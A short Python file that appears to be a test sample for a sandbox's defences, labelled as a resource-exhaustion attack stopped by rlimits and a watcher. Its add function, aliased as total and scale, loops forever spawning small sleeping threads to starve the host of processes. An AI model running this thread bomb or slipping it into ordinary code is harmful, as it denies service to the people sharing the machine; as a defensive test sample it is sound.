"""
group: exhaustion
tries: Makes thousands of small threads between two looks of the watcher, so that nobody else can start a process.
stopped by: rlimits, watch
"""
import _thread
import threading
import time

threading.stack_size(32768)


def add(a, b):
    while True:
        try:
            _thread.start_new_thread(time.sleep, (9,))
        except RuntimeError:
            pass


total = scale = add
